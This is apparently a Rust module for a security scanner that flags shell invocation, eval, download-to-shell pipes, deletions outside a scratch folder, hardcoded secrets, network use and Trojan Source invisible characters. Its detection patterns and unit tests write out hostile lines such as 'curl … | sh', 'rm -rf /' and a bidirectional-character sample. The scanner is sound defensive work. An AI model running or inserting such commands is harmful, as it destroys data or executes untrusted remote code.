//! The security scan: line-by-line rules over every text file of a tool, and the rules over
//! the manifest's `[run]` (in `manifest`).
//!
//! Each rule has an id, a severity and patterns per language. Findings are hints for a human
//! reviewer, not proof: the scan prefers flagging a suspicious line to missing a dangerous
//! one, and it never runs anything. Comment lines are skipped except for secrets (a key in a
//! comment is still leaked).

mod manifest;
mod packages;

use std::sync::LazyLock;

use regex::Regex;

use super::sources::{Language, SourceFile};
use super::{Check, CheckKind, CheckStatus, Finding, FindingSeverity};

pub(crate) const SHELL_INVOCATION: &str = "shell-invocation";
pub(crate) const EVAL_EXEC: &str = "eval-exec";
pub(crate) const PIPE_TO_SHELL: &str = "pipe-to-shell";
pub(crate) const DELETE_OUTSIDE_SCRATCH: &str = "delete-outside-scratch";
pub(crate) const HARDCODED_SECRET: &str = "hardcoded-secret";
pub(crate) const NETWORK_USE: &str = "network-use";
pub(crate) const INVISIBLE_CHARACTER: &str = "invisible-character";
/// A git repository's file in a tool folder (`.git`, `.gitmodules`, `.gitattributes`).
pub(crate) const REPOSITORY_FILE: &str = "repository-file";

pub(crate) use manifest::scan_manifest;
pub(crate) use packages::scan_lock;

const PY: &[Language] = &[Language::Python];
const SH: &[Language] = &[Language::Shell, Language::Bash];
const JS: &[Language] = &[Language::JavaScript];
const PY_JS: &[Language] = &[Language::Python, Language::JavaScript];
const CODE: &[Language] = &[
    Language::Python,
    Language::Shell,
    Language::Bash,
    Language::JavaScript,
];
const ANY: &[Language] = &[
    Language::Python,
    Language::Shell,
    Language::Bash,
    Language::JavaScript,
    Language::Other,
];

/// How a pattern decides that a line matches.
#[derive(Clone, Copy)]
enum Test {
    Regex(&'static str),
    /// `password = "…"` and friends, with placeholders (`"$X"`, `"<key>"`) left alone.
    SecretAssignment,
    /// `rm` of an absolute path, `~`, `$HOME` or `..`, found by reading its arguments.
    RmOutsideScratch,
}

struct PatternSpec {
    languages: &'static [Language],
    test: Test,
    /// Only in files whose text contains this (e.g. `exec(` only where `child_process` is used).
    requires: Option<&'static str>,
    /// Skip test cases and documentation, whose sample values are not the tool's own.
    code_and_config_only: bool,
    message: &'static str,
}

struct RuleSpec {
    id: &'static str,
    severity: FindingSeverity,
    in_comments: bool,
    /// Only when the manifest says `network = false`.
    when_network_forbidden: bool,
    patterns: &'static [PatternSpec],
}

const fn pattern(
    languages: &'static [Language],
    regex: &'static str,
    message: &'static str,
) -> PatternSpec {
    PatternSpec {
        languages,
        test: Test::Regex(regex),
        requires: None,
        code_and_config_only: false,
        message,
    }
}

const fn pattern_if(
    languages: &'static [Language],
    regex: &'static str,
    requires: &'static str,
    message: &'static str,
) -> PatternSpec {
    PatternSpec {
        languages,
        test: Test::Regex(regex),
        requires: Some(requires),
        code_and_config_only: false,
        message,
    }
}

static RULES: &[RuleSpec] = &[
    RuleSpec {
        id: SHELL_INVOCATION,
        severity: FindingSeverity::Warning,
        in_comments: false,
        when_network_forbidden: false,
        patterns: &[
            pattern(
                PY,
                r"\bshell\s*=\s*True\b",
                "subprocess with shell=True runs its command through a shell",
            ),
            pattern(
                PY,
                r"\bos\.(?:system|popen)\s*\(",
                "os.system / os.popen run their command through a shell",
            ),
            pattern(
                PY,
                r"\b(?:subprocess|commands)\.(?:getoutput|getstatusoutput)\s*\(",
                "getoutput runs its command through a shell",
            ),
            pattern(
                JS,
                r"\bchild_process\s*\.\s*exec(?:Sync)?\s*\(",
                "child_process.exec runs its command through a shell",
            ),
            pattern_if(
                JS,
                r"(?:^|[^\w.$])exec(?:Sync)?\s*\(",
                "child_process",
                "child_process exec runs its command through a shell",
            ),
            pattern_if(
                JS,
                r"\bshell\s*:\s*true\b",
                "child_process",
                "spawn with shell: true runs its command through a shell",
            ),
        ],
    },
    RuleSpec {
        id: EVAL_EXEC,
        severity: FindingSeverity::Warning,
        in_comments: false,
        when_network_forbidden: false,
        patterns: &[
            pattern(
                PY,
                r"(?:^|[^\w.])(?:eval|exec)\s*\(",
                "eval/exec run text as Python code",
            ),
            pattern(
                SH,
                r"(?:^|[;&|(){}\s`])eval(?:\s|$)",
                "eval runs text as shell code",
            ),
            pattern(
                JS,
                r"(?:^|[^\w.$])eval\s*\(",
                "eval runs text as JavaScript",
            ),
            pattern(
                JS,
                r"\bnew\s+Function\s*\(",
                "new Function compiles text into code",
            ),
        ],
    },
    RuleSpec {
        id: PIPE_TO_SHELL,
        severity: FindingSeverity::Error,
        in_comments: false,
        when_network_forbidden: false,
        patterns: &[
            pattern(
                CODE,
                concat!(
                    r"\b(?:curl|wget)\b[^|\n]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:\S*/)?",
                    r"(?:sh|bash|zsh|dash|ksh|fish)\b"
                ),
                "a download is piped into a shell: it runs whatever the server sends",
            ),
            pattern(
                CODE,
                concat!(
                    r"\b(?:curl|wget)\b[^|\n]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:\S*/)?",
                    r#"(?:python[0-9.]*|perl|ruby|node|php)(?:\s+-)?\s*(?:$|[;&|)'"])"#
                ),
                "a download is piped into an interpreter: it runs whatever the server sends",
            ),
            pattern(
                CODE,
                r#"\b(?:sh|bash|zsh|dash|ksh)\s+(?:-\S+\s+)*(?:<\(|["']?\$\()\s*(?:curl|wget)\b"#,
                "a shell runs a download: it runs whatever the server sends",
            ),
            pattern(
                CODE,
                r#"(?:\bsource|\beval|(?:^|\s)\.)\s+["']?(?:<\(|\$\()\s*(?:curl|wget)\b"#,
                "a download is sourced or evaluated: it runs whatever the server sends",
            ),
            pattern(
                PY,
                r"\b(?:exec|eval)\s*\(\s*(?:urllib\.request\.)?(?:urlopen|requests\.get|httpx\.get)\b",
                "downloaded text is executed as Python",
            ),
        ],
    },
    RuleSpec {
        id: DELETE_OUTSIDE_SCRATCH,
        severity: FindingSeverity::Error,
        in_comments: false,
        when_network_forbidden: false,
        patterns: &[
            PatternSpec {
                languages: CODE,
                test: Test::RmOutsideScratch,
                requires: None,
                code_and_config_only: false,
                message: "rm of a path outside the scratch folder (absolute, ~, $HOME or ..)",
            },
            pattern(
                PY_JS,
                r#"["']rm["']\s*,\s*(?:["']-[^"']*["']\s*,\s*)*["'](?:/|~|\.\.|\$HOME)"#,
                "rm of a path outside the scratch folder (absolute, ~, $HOME or ..)",
            ),
            pattern(
                PY,
                concat!(
                    r"\b(?:shutil\.rmtree|os\.(?:remove|unlink|rmdir|removedirs))\s*\(\s*",
                    r#"[rRbBuUfF]{0,2}["'](?:/|~|\.\.)"#
                ),
                "deletes a path outside the scratch folder (absolute, ~ or ..)",
            ),
            pattern(
                PY,
                concat!(
                    r"\b(?:shutil\.rmtree|os\.(?:remove|unlink|rmdir|removedirs))\s*\(\s*",
                    r"(?:os\.path\.expanduser|os\.environ|os\.getenv|(?:pathlib\.)?Path\.home)\b"
                ),
                "deletes a path under the home folder, outside the scratch folder",
            ),
            pattern(
                PY,
                r#"\bPath\(\s*[rRbBuUfF]{0,2}["'](?:/|~|\.\.)[^)]*\)\s*\.\s*(?:unlink|rmdir)\s*\("#,
                "deletes a path outside the scratch folder (absolute, ~ or ..)",
            ),
            pattern(
                JS,
                concat!(
                    r"\bfs(?:\.promises)?\.(?:rm|rmSync|rmdir|rmdirSync|unlink|unlinkSync)\s*\(\s*",
                    r#"(?:["'`](?:/|~|\.\.)|os\.homedir\(\)|process\.env\.HOME)"#
                ),
                "deletes a path outside the scratch folder (absolute, ~, home or ..)",
            ),
        ],
    },
    RuleSpec {
        id: HARDCODED_SECRET,
        severity: FindingSeverity::Error,
        in_comments: true,
        when_network_forbidden: false,
        patterns: &[
            pattern(
                ANY,
                r"\bAKIA[0-9A-Z]{16}\b",
                "an AWS access key id is written into the file",
            ),
            pattern(
                ANY,
                r"-----BEGIN (?:[A-Z0-9]+ )*PRIVATE KEY-----",
                "a private key is written into the file",
            ),
            pattern(
                ANY,
                r"\bgh[pousr]_[A-Za-z0-9]{36}\b",
                "a GitHub token is written into the file",
            ),
            pattern(
                ANY,
                r"\bgithub_pat_[A-Za-z0-9_]{22,}",
                "a GitHub token is written into the file",
            ),
            pattern(
                ANY,
                r"\bsk-[A-Za-z0-9]{20,}",
                "an API secret key (sk-…) is written into the file",
            ),
            pattern(
                ANY,
                r"\bsk-(?:proj|ant|live|test)-[A-Za-z0-9_-]{20,}",
                "an API secret key (sk-…) is written into the file",
            ),
            pattern(
                ANY,
                r"\bxox[abprs]-[A-Za-z0-9-]{10,}",
                "a Slack token is written into the file",
            ),
            PatternSpec {
                languages: ANY,
                test: Test::SecretAssignment,
                requires: None,
                code_and_config_only: true,
                message: "a password or key is assigned as a literal",
            },
        ],
    },
    RuleSpec {
        id: NETWORK_USE,
        severity: FindingSeverity::Warning,
        in_comments: false,
        when_network_forbidden: true,
        patterns: &[
            pattern(
                PY,
                concat!(
                    r"^\s*(?:import|from)\s+(?:socket|requests|httpx|aiohttp|urllib3|ftplib|smtplib|",
                    r"telnetlib|paramiko|websockets?|http\.client|urllib\.request)\b"
                ),
                "uses the network, but the manifest says network = false",
            ),
            pattern(
                PY,
                r"^\s*import\s+[\w., ]*\b(?:socket|requests|urllib\.request|http\.client)\b",
                "uses the network, but the manifest says network = false",
            ),
            pattern(
                PY,
                r"^\s*from\s+(?:urllib|http)\s+import\s+[\w, ()]*\b(?:request|client)\b",
                "uses the network, but the manifest says network = false",
            ),
            pattern(
                PY,
                r"\b(?:urlopen|urllib\.request\.\w+)\s*\(",
                "uses the network, but the manifest says network = false",
            ),
            pattern(
                SH,
                r"(?:^|[;&|(){}\s`])(?:curl|wget|nc|ncat|netcat|telnet|ssh|scp|sftp|ftp)(?:\s|$)",
                "uses the network, but the manifest says network = false",
            ),
            pattern(
                SH,
                r"/dev/(?:tcp|udp)/",
                "uses the network, but the manifest says network = false",
            ),
            pattern(
                JS,
                r"(?:^|[^\w.$])fetch\s*\(",
                "uses the network, but the manifest says network = false",
            ),
            pattern(
                JS,
                r"\bhttps?\s*\.\s*(?:request|get)\s*\(",
                "uses the network, but the manifest says network = false",
            ),
            pattern(
                JS,
                r#"(?:\brequire\s*\(\s*|\bfrom\s+)["'](?:node:)?(?:net|http|https|dgram|tls|http2)["']"#,
                "uses the network, but the manifest says network = false",
            ),
            pattern(
                JS,
                r"\bnew\s+WebSocket\s*\(|\bXMLHttpRequest\b",
                "uses the network, but the manifest says network = false",
            ),
        ],
    },
];

/// `password = "…"`, `"api_key": '…'`, `API_KEY="…"`: a secret-looking name given a literal
/// of 8 or more characters.
const SECRET_ASSIGNMENT: &str = concat!(
    r"(?i)\b[a-z0-9_.-]*(?:password|passwd|passphrase|secret|api[_-]?key|access[_-]?key|",
    r"access[_-]?token|auth[_-]?token|private[_-]?key|client[_-]?secret)[a-z0-9_-]*",
    r#"["']?\s*(?::\s*str\s*)?(?::=|=|:)\s*[rbuf]{0,2}["']([^"'\n]{8,})["']"#
);

/// Where an `rm` command starts (its arguments follow).
const RM_COMMAND: &str = r"(?:^|[^\w./$-])rm\s";

enum CompiledTest {
    Regex(Regex),
    SecretAssignment,
    RmOutsideScratch,
}

struct CompiledPattern {
    languages: &'static [Language],
    test: CompiledTest,
    requires: Option<&'static str>,
    code_and_config_only: bool,
    message: &'static str,
}

struct Compiled {
    rules: Vec<(&'static RuleSpec, Vec<CompiledPattern>)>,
    secret_assignment: Option<Regex>,
    rm_command: Option<Regex>,
    /// How many patterns failed to compile; a unit test keeps this at zero.
    #[cfg_attr(not(test), expect(dead_code, reason = "read by the unit tests"))]
    broken: usize,
}

static COMPILED: LazyLock<Compiled> = LazyLock::new(|| {
    let mut broken = 0;
    let rules = RULES
        .iter()
        .map(|rule| {
            let patterns = rule
                .patterns
                .iter()
                .filter_map(|p| {
                    let test = match p.test {
                        Test::Regex(source) => match Regex::new(source) {
                            Ok(regex) => CompiledTest::Regex(regex),
                            Err(_) => {
                                broken += 1;
                                return None;
                            }
                        },
                        Test::SecretAssignment => CompiledTest::SecretAssignment,
                        Test::RmOutsideScratch => CompiledTest::RmOutsideScratch,
                    };
                    Some(CompiledPattern {
                        languages: p.languages,
                        test,
                        requires: p.requires,
                        code_and_config_only: p.code_and_config_only,
                        message: p.message,
                    })
                })
                .collect();
            (rule, patterns)
        })
        .collect();
    let mut compile = |source: &str| {
        let regex = Regex::new(source).ok();
        broken += usize::from(regex.is_none());
        regex
    };
    let secret_assignment = compile(SECRET_ASSIGNMENT);
    let rm_command = compile(RM_COMMAND);
    Compiled {
        rules,
        secret_assignment,
        rm_command,
        broken,
    }
});

/// Scans the sources of a tool; `network_forbidden` turns on the network rule.
pub(crate) fn scan_sources(sources: &[SourceFile], network_forbidden: bool) -> Vec<Finding> {
    sources
        .iter()
        .flat_map(|s| scan_text(&s.relative, s.language, &s.text, network_forbidden))
        .collect()
}

/// Scans one file's text; `file` is its path relative to the tool folder.
pub(crate) fn scan_text(
    file: &str,
    language: Language,
    text: &str,
    network_forbidden: bool,
) -> Vec<Finding> {
    let compiled = &*COMPILED;
    let test_data = file.starts_with("tests/");
    let documentation = [".md", ".txt", ".rst"]
        .iter()
        .any(|ext| file.to_ascii_lowercase().ends_with(ext));
    let mut findings = Vec::new();
    for (index, line) in text.lines().enumerate() {
        // In every file and in comments too: a comment is where Trojan Source hides code.
        findings.extend(invisible_characters(file, index, line));
        let comment = is_comment(language, line);
        for (rule, patterns) in &compiled.rules {
            if (comment && !rule.in_comments) || (rule.when_network_forbidden && !network_forbidden)
            {
                continue;
            }
            let hit = patterns.iter().find(|p| {
                p.languages.contains(&language)
                    && !(p.code_and_config_only && (test_data || documentation))
                    && p.requires.is_none_or(|needle| text.contains(needle))
                    && matches(compiled, &p.test, line)
            });
            if let Some(pattern) = hit {
                findings.push(Finding {
                    rule: rule.id.to_string(),
                    file: file.to_string(),
                    line: Some(index + 1),
                    severity: rule.severity,
                    message: pattern.message.to_string(),
                    check: CheckKind::Security,
                });
            }
        }
    }
    findings
}

/// The git repository's files among a tool's paths (relative, `/`-separated), one finding for
/// each outermost one: a folder a person or toolbench's auto-commit runs git in would be read
/// as a repository, and what it configures run (a proposal is refused them outright).
pub(crate) fn scan_paths<'p>(relatives: impl IntoIterator<Item = &'p str>) -> Vec<Finding> {
    let mut named: Vec<String> = Vec::new();
    for relative in relatives {
        let Some(name) = crate::review::propose::repository_name(relative) else {
            continue;
        };
        let parts: Vec<&str> = relative.split('/').collect();
        let at = parts.iter().position(|part| *part == name).unwrap_or(0);
        let outermost = parts[..=at].join("/");
        if !named.contains(&outermost) {
            named.push(outermost);
        }
    }
    named
        .into_iter()
        .map(|path| Finding {
            rule: REPOSITORY_FILE.to_string(),
            message: format!(
                "{path}: a git repository's file in a tool; git run where it lands would \
                 read it and run what it configures"
            ),
            file: path,
            line: None,
            severity: FindingSeverity::Error,
            check: CheckKind::Security,
        })
        .collect()
}

/// The characters of `line` (the `index`th, 0-based) that draw nothing yet change what a
/// reviewer sees (`text::invisible_name`: bidirectional controls, zero-width characters), as
/// one finding naming each code point; a byte order mark that opens the file is no finding.
fn invisible_characters(file: &str, index: usize, line: &str) -> Option<Finding> {
    let mut named: Vec<String> = Vec::new();
    for (at, c) in line.char_indices() {
        let Some(name) = crate::text::invisible_name(c) else {
            continue;
        };
        if index == 0 && at == 0 && c == '\u{FEFF}' {
            continue;
        }
        let code = format!("U+{:04X} {name}", c as u32);
        if !named.contains(&code) {
            named.push(code);
        }
    }
    (!named.is_empty()).then(|| Finding {
        rule: INVISIBLE_CHARACTER.to_string(),
        file: file.to_string(),
        line: Some(index + 1),
        severity: FindingSeverity::Error,
        message: format!(
            "{}: invisible in review, it reorders or hides the code around it (Trojan Source)",
            named.join(", ")
        ),
        check: CheckKind::Security,
    })
}

fn matches(compiled: &Compiled, test: &CompiledTest, line: &str) -> bool {
    match test {
        CompiledTest::Regex(regex) => regex.is_match(line),
        CompiledTest::SecretAssignment => compiled.secret_assignment.as_ref().is_some_and(|re| {
            re.captures_iter(line)
                .filter_map(|c| c.get(1))
                .any(|value| !is_placeholder(value.as_str()))
        }),
        CompiledTest::RmOutsideScratch => compiled.rm_command.as_ref().is_some_and(|re| {
            re.find_iter(line)
                .any(|m| rm_leaves_scratch(&line[m.end()..]))
        }),
    }
}

fn is_comment(language: Language, line: &str) -> bool {
    let trimmed = line.trim_start();
    match language {
        Language::JavaScript => {
            trimmed.starts_with("//") || trimmed.starts_with("/*") || trimmed.starts_with('*')
        }
        _ => trimmed.starts_with('#'),
    }
}

/// Values that stand for a secret rather than being one: `"$TOKEN"`, `"<your key>"`,
/// `"{password}"`, `"********"`.
fn is_placeholder(value: &str) -> bool {
    let lower = value.to_ascii_lowercase();
    let mut chars = value.chars();
    let first = chars.next().unwrap_or(' ');
    matches!(first, '$' | '<' | '{' | '%')
        || value.contains("{}")
        || value.contains("%s")
        || chars.all(|c| c == first)
        || ["your", "example", "placeholder", "xxxx", "redacted"]
            .iter()
            .any(|word| lower.contains(word))
}

/// Reads the arguments of one `rm` (up to the end of its command) and says whether any
/// target lies outside the scratch folder.
fn rm_leaves_scratch(arguments: &str) -> bool {
    let end = arguments
        .find([';', '|', '&', ')', '`', '#', '\n'])
        .unwrap_or(arguments.len());
    let mut options_done = false;
    for word in arguments[..end].split_whitespace() {
        let word = word.trim_matches(|c| c == '"' || c == '\'' || c == ',');
        if !options_done && word == "--" {
            options_done = true;
            continue;
        }
        if !options_done && word.starts_with('-') {
            continue;
        }
        let outside = word.starts_with('/')
            || word.starts_with('~')
            || word.starts_with("$HOME")
            || word.starts_with("${HOME")
            || word.starts_with("..");
        if outside {
            return true;
        }
    }
    false
}

/// The security check: fails on any error-severity finding, warns on warnings.
pub(crate) fn check(findings: &[Finding], files: usize) -> Check {
    let kind = CheckKind::Security;
    let errors = findings
        .iter()
        .filter(|f| f.severity == FindingSeverity::Error)
        .count();
    let warnings = findings.len() - errors;
    if findings.is_empty() {
        return Check::new(
            kind,
            CheckStatus::Pass,
            format!("no findings in {files} file(s)"),
        );
    }
    let mut rules: Vec<&str> = findings.iter().map(|f| f.rule.as_str()).collect();
    rules.sort_unstable();
    rules.dedup();
    let message = format!(
        "{errors} error(s), {warnings} warning(s): {}",
        rules.join(", ")
    );
    let status = if errors > 0 {
        CheckStatus::Fail
    } else {
        CheckStatus::Warn
    };
    Check::new(kind, status, message)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules_of(language: Language, line: &str, network_forbidden: bool) -> Vec<String> {
        let file = match language {
            Language::Python => "main.py",
            Language::JavaScript => "main.js",
            Language::Other => "config.json",
            _ => "run.sh",
        };
        scan_text(file, language, line, network_forbidden)
            .into_iter()
            .map(|f| f.rule)
            .collect()
    }

    fn flags(language: Language, line: &str, rule: &str) -> bool {
        rules_of(language, line, true).iter().any(|r| r == rule)
    }

    #[test]
    fn every_pattern_compiles() {
        assert_eq!(COMPILED.broken, 0);
        let patterns: usize = RULES.iter().map(|r| r.patterns.len()).sum();
        let compiled: usize = COMPILED.rules.iter().map(|(_, p)| p.len()).sum();
        assert_eq!(patterns, compiled);
    }

    #[test]
    fn a_repositorys_files_are_one_error_each_outermost() {
        let findings = scan_paths([
            ".git/HEAD",
            ".git/config",
            ".git/hooks/pre-commit",
            "main.py",
            "vendor/lib/.gitmodules",
            "docs/.gitignore",
        ]);
        let named: Vec<(&str, &str)> = findings
            .iter()
            .map(|f| (f.file.as_str(), f.rule.as_str()))
            .collect();
        assert_eq!(
            named,
            [
                (".git", REPOSITORY_FILE),
                ("vendor/lib/.gitmodules", REPOSITORY_FILE)
            ]
        );
        assert!(
            findings
                .iter()
                .all(|f| f.severity == FindingSeverity::Error && f.line.is_none())
        );
    }

    #[test]
    fn invisible_characters_fail_in_any_file_and_comment_naming_each_code_point() {
        // A shell script whose comment hides the end of an `if` from a reviewer.
        let trojan = "access=user\n# \u{202E}fi\u{2066} ; rm -rf ~ \u{2069}\u{2066}\nexit 0\n";
        let found = scan_text("run.sh", Language::Shell, trojan, false);
        let invisible: Vec<&Finding> = found
            .iter()
            .filter(|f| f.rule == INVISIBLE_CHARACTER)
            .collect();
        let [finding] = invisible.as_slice() else {
            panic!("one finding: {found:?}");
        };
        assert_eq!(
            (finding.line, finding.severity),
            (Some(2), FindingSeverity::Error)
        );
        assert!(
            finding.message.starts_with(
                "U+202E RIGHT-TO-LEFT OVERRIDE, U+2066 LEFT-TO-RIGHT ISOLATE, U+2069 POP DIRECTIONAL ISOLATE:"
            ),
            "{}",
            finding.message
        );
        for (file, language) in [
            ("README.md", Language::Other),
            ("tests/basic.toml", Language::Other),
            ("main.py", Language::Python),
        ] {
            assert!(
                flags_in(file, language, "x = 1\u{200B}", INVISIBLE_CHARACTER),
                "{file}"
            );
        }
        // A byte order mark opening a file is no finding; one later is.
        assert!(!flags_in(
            "main.py",
            Language::Python,
            "\u{FEFF}x = 1",
            INVISIBLE_CHARACTER
        ));
        assert!(flags_in(
            "main.py",
            Language::Python,
            "x\n\u{FEFF}y",
            INVISIBLE_CHARACTER
        ));
        assert!(!flags_in(
            "main.py",
            Language::Python,
            "s = 'ж ש é 😀'",
            INVISIBLE_CHARACTER
        ));
        let check = check(&found, 1);
        assert_eq!(check.status, CheckStatus::Fail, "{}", check.message);
    }

    fn flags_in(file: &str, language: Language, text: &str, rule: &str) -> bool {
        scan_text(file, language, text, false)
            .iter()
            .any(|f| f.rule == rule)
    }

    #[test]
    fn shell_invocation_flags_shell_true_but_not_argv_lists() {
        let py = Language::Python;
        assert!(flags(
            py,
            "subprocess.run(cmd, shell=True)",
            SHELL_INVOCATION
        ));
        assert!(flags(py, "os.system('ls ' + name)", SHELL_INVOCATION));
        assert!(flags(
            Language::JavaScript,
            "child_process.exec(cmd, cb)",
            SHELL_INVOCATION
        ));
        assert!(!flags(
            py,
            "subprocess.run(['ls', name], check=True)",
            SHELL_INVOCATION
        ));
        assert!(!flags(
            Language::JavaScript,
            "const m = re.exec(s)",
            SHELL_INVOCATION
        ));
    }

    #[test]
    fn eval_exec_flags_code_from_text_but_not_lookalikes() {
        assert!(flags(Language::Python, "result = eval(expr)", EVAL_EXEC));
        assert!(flags(Language::Shell, "    eval \"find . $P\"", EVAL_EXEC));
        assert!(flags(
            Language::JavaScript,
            "const f = new Function('a', body)",
            EVAL_EXEC
        ));
        assert!(!flags(
            Language::Python,
            "value = ast.literal_eval(text)",
            EVAL_EXEC
        ));
        assert!(!flags(Language::Python, "cursor.execute(sql)", EVAL_EXEC));
        assert!(!flags(Language::Shell, "echo evaluation done", EVAL_EXEC));
    }

    #[test]
    fn pipe_to_shell_flags_downloads_run_by_a_shell_only() {
        let sh = Language::Shell;
        assert!(flags(
            sh,
            "curl -fsSL https://x.invalid/i.sh | sh",
            PIPE_TO_SHELL
        ));
        assert!(flags(
            sh,
            "wget -qO- https://x.invalid/i | sudo bash",
            PIPE_TO_SHELL
        ));
        assert!(flags(
            sh,
            "bash <(curl -s https://x.invalid/i)",
            PIPE_TO_SHELL
        ));
        assert!(flags(
            sh,
            "curl -s https://x.invalid/i.py | python3",
            PIPE_TO_SHELL
        ));
        assert!(!flags(
            sh,
            "curl -s https://x.invalid/a.json | python3 -m json.tool",
            PIPE_TO_SHELL
        ));
        assert!(!flags(
            sh,
            "curl -s https://x.invalid/a.tgz | tar xz",
            PIPE_TO_SHELL
        ));
    }

    #[test]
    fn delete_outside_scratch_flags_absolute_home_and_parent_targets() {
        let sh = Language::Shell;
        assert!(flags(
            sh,
            "rm -rf \"$HOME/.cache/x\"",
            DELETE_OUTSIDE_SCRATCH
        ));
        assert!(flags(sh, "rm -rf /", DELETE_OUTSIDE_SCRATCH));
        assert!(flags(sh, "rm -r ../other", DELETE_OUTSIDE_SCRATCH));
        assert!(flags(sh, "cd x && rm -rf ~/old", DELETE_OUTSIDE_SCRATCH));
        assert!(flags(
            Language::Python,
            "shutil.rmtree('/var/data')",
            DELETE_OUTSIDE_SCRATCH
        ));
        assert!(flags(
            Language::Python,
            "os.system(\"rm -rf /tmp/x\")",
            DELETE_OUTSIDE_SCRATCH
        ));
        assert!(!flags(
            sh,
            "rm -rf ./build \"$TMPDIR/x\"",
            DELETE_OUTSIDE_SCRATCH
        ));
        assert!(!flags(
            sh,
            "rm -f -- \"$f\"; echo /etc",
            DELETE_OUTSIDE_SCRATCH
        ));
        assert!(!flags(
            Language::Python,
            "shutil.rmtree(work_dir)",
            DELETE_OUTSIDE_SCRATCH
        ));
        assert!(!flags(sh, "echo confirm /tmp", DELETE_OUTSIDE_SCRATCH));
    }

    #[test]
    fn hardcoded_secret_flags_keys_and_literal_passwords_but_not_lookups() {
        let py = Language::Python;
        assert!(flags(py, "KEY = 'AKIAIOSFODNN7EXAMPLE'", HARDCODED_SECRET));
        assert!(flags(
            py,
            "# -----BEGIN RSA PRIVATE KEY-----",
            HARDCODED_SECRET
        ));
        assert!(flags(
            py,
            "token = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789'",
            HARDCODED_SECRET
        ));
        assert!(flags(
            py,
            "client = Client('sk-abcdefghijklmnopqrstuvwx')",
            HARDCODED_SECRET
        ));
        assert!(flags(py, "password = \"hunter2hunter2\"", HARDCODED_SECRET));
        assert!(flags(
            Language::Shell,
            "export API_KEY='a8f5f167f44f4964'",
            HARDCODED_SECRET
        ));
        assert!(!flags(
            py,
            "password = os.environ[\"PASSWORD\"]",
            HARDCODED_SECRET
        ));
        assert!(!flags(py, "api_key = \"\"", HARDCODED_SECRET));
        assert!(!flags(
            py,
            "if password == \"letmein123\":",
            HARDCODED_SECRET
        ));
        assert!(!flags(
            Language::Shell,
            "API_KEY=\"${API_KEY:-}\"",
            HARDCODED_SECRET
        ));
        assert!(!flags(
            py,
            "task-abcdefghijklmnopqrstuvwxyz",
            HARDCODED_SECRET
        ));
        let case = scan_text(
            "tests/login.toml",
            Language::Other,
            "input = '{\"password\": \"hunter2hunter2\"}'",
            true,
        );
        assert!(case.is_empty(), "sample inputs are not secrets: {case:?}");
    }

    #[test]
    fn network_use_is_flagged_only_when_the_manifest_forbids_it() {
        let py = Language::Python;
        assert!(flags(py, "import requests", NETWORK_USE));
        assert!(flags(py, "from urllib.request import urlopen", NETWORK_USE));
        assert!(flags(py, "import json, socket", NETWORK_USE));
        assert!(flags(
            Language::Shell,
            "curl -s https://x.invalid",
            NETWORK_USE
        ));
        assert!(flags(
            Language::JavaScript,
            "const r = await fetch(url)",
            NETWORK_USE
        ));
        assert!(!flags(py, "import requests_mock", NETWORK_USE));
        assert!(!flags(py, "import json", NETWORK_USE));
        assert!(!flags(Language::Shell, "echo done", NETWORK_USE));
        assert!(!rules_of(py, "import requests", false).contains(&NETWORK_USE.to_string()));
    }

    #[test]
    fn comments_are_skipped_except_for_secrets() {
        assert!(rules_of(Language::Shell, "# never: curl x | sh; eval \"$y\"", true).is_empty());
        assert!(rules_of(Language::JavaScript, "// eval(x)", true).is_empty());
    }

    #[test]
    fn findings_carry_file_line_and_severity() {
        let text = "import os\n\nos.system('x')\nrm = 1\n";
        let findings = scan_text("main.py", Language::Python, text, false);
        assert_eq!(findings.len(), 1, "{findings:?}");
        assert_eq!(findings[0].line, Some(3));
        assert_eq!(findings[0].file, "main.py");
        assert_eq!(findings[0].severity, FindingSeverity::Warning);
        let check = check(&findings, 1);
        assert_eq!(check.status, CheckStatus::Warn);
    }
}
